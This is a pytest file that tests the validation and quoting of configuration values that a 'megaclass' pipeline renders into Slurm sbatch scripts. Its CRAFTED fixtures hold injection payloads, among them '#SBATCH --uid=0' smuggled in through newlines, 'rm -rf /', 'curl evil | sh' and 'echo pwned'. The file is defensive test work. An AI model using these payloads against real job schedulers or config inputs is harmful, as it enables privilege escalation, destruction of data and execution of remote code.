"""Every value that enters a rendered sbatch script is checked: a crafted value is refused with
a ConfigError naming its key (before anything is created on disk), and ordinary values render
exactly as before. Values in shell positions are quoted; bash itself reads them back."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from megaclass.pipelines.config import ConfigError, load_config
from megaclass.pipelines.slurm import render

PY = sys.executable
SHELLCHECK = shutil.which("shellcheck") or str(Path(PY).parent / "shellcheck")
INJECT = "#SBATCH --uid=0"


def _cfg(tmp_path: Path, **slurm):
    cfg = load_config(None, [f"run_dir={tmp_path / 'run'}", "slurm.gpus_per_node=0"])
    for key, value in slurm.items():
        setattr(cfg.slurm, key, value)
    return cfg


# (key named in the error, slurm field, crafted value)
CRAFTED = [
    ("slurm.job_name", "job_name", f"x\n{INJECT}"),
    ("slurm.job_name", "job_name", "x --uid=0"),
    ("slurm.partition", "partition", f"gpu\r{INJECT}"),
    ("slurm.partition", "partition", "gpu --uid=0"),
    ("slurm.account", "account", "proj\x00"),
    ("slurm.account", "account", 'proj" --uid=0'),
    ("slurm.qos", "qos", "high\u2028x"),
    ("slurm.qos", "qos", "high\t--uid=0"),
    ("slurm.mem", "mem", "0 --uid=0"),
    ("slurm.mem", "mem", ""),
    ("slurm.time", "time", "1:00:00\n" + INJECT),
    ("slurm.time", "time", "1:00:00;x"),
    ("slurm.output", "output", "/logs/%j.out\nrm -rf /"),
    ("slurm.output", "output", "/logs/a b/%j.out"),
    ("slurm.extra_sbatch[1]", "extra_sbatch", ["--exclusive", f"--constraint=a\n{INJECT}"]),
    ("slurm.extra_sbatch[0]", "extra_sbatch", ["--comment=two words"]),
    ("slurm.extra_sbatch[0]", "extra_sbatch", ["constraint=a100"]),
    ("slurm.extra_sbatch[0]", "extra_sbatch", ["#SBATCH "]),
    ("slurm.setup[1]", "setup", ["module load cuda", "echo ok\ncurl evil | sh"]),
    ("slurm.setup[0]", "setup", ["echo\x1b[2J"]),
    ("slurm.python", "python", "python\necho pwned"),
    ("slurm.ray_temp_root", "ray_temp_root", "/tmp\n" + INJECT),
]


@pytest.mark.parametrize("key, field, value", CRAFTED, ids=lambda v: repr(v)[:30])
@pytest.mark.parametrize("stage", ["train", "embed"])
def test_crafted_value_is_refused_naming_its_key(tmp_path, key, field, value, stage):
    cfg = _cfg(tmp_path, **{field: value})
    with pytest.raises(ConfigError) as e:
        render(cfg, stage, None)
    assert str(e.value).startswith(f"{key}: ")
    assert not (tmp_path / "run").exists()  # nothing created for a refused config


@pytest.mark.parametrize(
    "run_dir, msg",
    [
        ("a\nb", "must be one line"),
        (f"runs/x\n{INJECT}", "must be one line"),
        ("runs/\x00x", "must be one line"),
        ("runs/two words", r"goes into an #SBATCH line \(the default log path"),
        ("runs/100%", "found '%'"),
    ],
)
def test_crafted_run_dir_is_refused(tmp_path, monkeypatch, run_dir, msg):
    monkeypatch.chdir(tmp_path)
    cfg = _cfg(tmp_path)
    cfg.run_dir = run_dir
    with pytest.raises(ConfigError, match=r"^run_dir: .*" + msg):
        render(cfg, "train", None)
    assert list(tmp_path.iterdir()) == []


def test_crafted_config_path_is_refused(tmp_path):
    with pytest.raises(ConfigError, match=r"^config path \(the CONFIG argument\): must be one"):
        render(_cfg(tmp_path), "run", f"c.yaml\n{INJECT}")


def test_a_refusal_is_one_clear_message(tmp_path):
    cfg = _cfg(tmp_path, partition="gpu --uid=0")
    with pytest.raises(ConfigError) as e:
        render(cfg, "train", None)
    assert str(e.value) == (
        "slurm.partition: 'gpu --uid=0' goes into an #SBATCH line, where only letters, digits "
        "and _.,:/=@+- are accepted (sbatch splits the line at whitespace and reads quotes "
        "itself); found ' '"
    )


def test_ordinary_values_render_unchanged(tmp_path):
    cfg = _cfg(
        tmp_path,
        job_name="mc_v2.1",
        partition="gpu,gpu-long",
        account="proj-1",
        qos="high",
        mem="480G",
        time="1-00:00:00",
        output=str(tmp_path / "logs" / "%x-%j.out"),
        extra_sbatch=[
            "--gres=gpu:8",
            "#SBATCH --exclude=node[01-04]",
            "--constraint=a100|h100",
            "--mail-type=END,FAIL",
            "--mail-user=me@example.org",
            "--array=0-15%4",
            "--exclusive",
        ],
        setup=["\tmodule load cuda/12.4  # tab and comment kept", "source /opt/v env/bin/activate"],
        python="/opt/venv/bin/python3",
        ray_temp_root="/tmp",
    )
    script = render(cfg, "train", tmp_path / "c.yaml")
    sbatch = [ln for ln in script.splitlines() if ln.startswith("#SBATCH")]
    assert sbatch == [
        "#SBATCH --job-name=mc_v2.1-train",
        "#SBATCH --nodes=1",
        "#SBATCH --ntasks-per-node=1",
        "#SBATCH --cpus-per-task=8",
        "#SBATCH --mem=480G",
        "#SBATCH --time=1-00:00:00",
        "#SBATCH --partition=gpu,gpu-long",
        "#SBATCH --account=proj-1",
        "#SBATCH --qos=high",
        f"#SBATCH --output={tmp_path / 'logs' / '%x-%j.out'}",
        "#SBATCH --open-mode=append",
        "#SBATCH --requeue",
        "#SBATCH --signal=B:USR1@120",
        "#SBATCH --gres=gpu:8",
        "#SBATCH --exclude=node[01-04]",
        "#SBATCH --constraint=a100|h100",
        "#SBATCH --mail-type=END,FAIL",
        "#SBATCH --mail-user=me@example.org",
        "#SBATCH --array=0-15%4",
        "#SBATCH --exclusive",
    ]
    lines = script.splitlines()
    assert "\tmodule load cuda/12.4  # tab and comment kept" in lines
    assert "source /opt/v env/bin/activate" in lines
    assert "PYTHON=/opt/venv/bin/python3" in lines  # a plain value is not quoted
    assert f"RUN_DIR={(tmp_path / 'run').resolve()}" in lines
    assert f"# Rendered by `megaclass slurm {tmp_path / 'c.yaml'} --stage train`; " in script


def test_values_with_spaces_in_shell_positions_are_quoted_and_read_back_by_bash(tmp_path):
    odd = tmp_path / "my runs" / "it's $HOME `id`"
    cfg = _cfg(
        tmp_path,
        output=str(tmp_path / "logs" / "%x-%j.out"),  # run_dir then stays out of #SBATCH lines
        python="/opt/my env/bin/python",
        ray_temp_root="/tmp/ray tmp",
    )
    cfg.run_dir = str(odd)
    script = render(cfg, "run", tmp_path / "conf dir" / "c.yaml")
    f = tmp_path / "run.sbatch"
    f.write_text(script)
    subprocess.run(["bash", "-n", str(f)], check=True)
    # SC2016 would only note that the quoted '$HOME' stays literal, which is the point here
    res = subprocess.run([SHELLCHECK, "--exclude=SC2016", str(f)], capture_output=True, text=True)
    assert res.returncode == 0, res.stdout
    assigns = [ln for ln in script.splitlines() if re.match(r"(PYTHON|RUN_DIR|ray_tmp)=", ln)]
    probe = "\n".join([*assigns, 'printf "%s\\n" "$PYTHON" "$RUN_DIR" "$ray_tmp"'])
    out = subprocess.run(
        ["bash", "-c", probe], env={"SLURM_JOB_ID": "5", "PATH": "/usr/bin:/bin"},
        capture_output=True, text=True, check=True,
    ).stdout.splitlines()  # fmt: skip
    assert out == ["/opt/my env/bin/python", str(odd.resolve()), "/tmp/ray tmp/ray-5"]
    assert f"# Rendered by `megaclass slurm '{tmp_path / 'conf dir' / 'c.yaml'}' --stage run`" in (
        script
    )


def test_training_ranks_must_divide_the_virtual_streams(tmp_path):
    """A job whose rank count does not divide train.virtual_streams would fail only when its
    ranks start (possibly hours later in the queue): refused when the script is rendered."""
    cfg = _cfg(tmp_path, nodes=3, tasks_per_node=2)  # 6 ranks, 64 streams
    with pytest.raises(
        ConfigError, match=r"^train\.virtual_streams: 64 is not divisible by the job's 6"
    ):
        render(cfg, "train", None)
    render(cfg, "embed", None)  # a Ray stage has no training ranks
    cfg.train.virtual_streams = 12
    assert "srun" in render(cfg, "train", None)
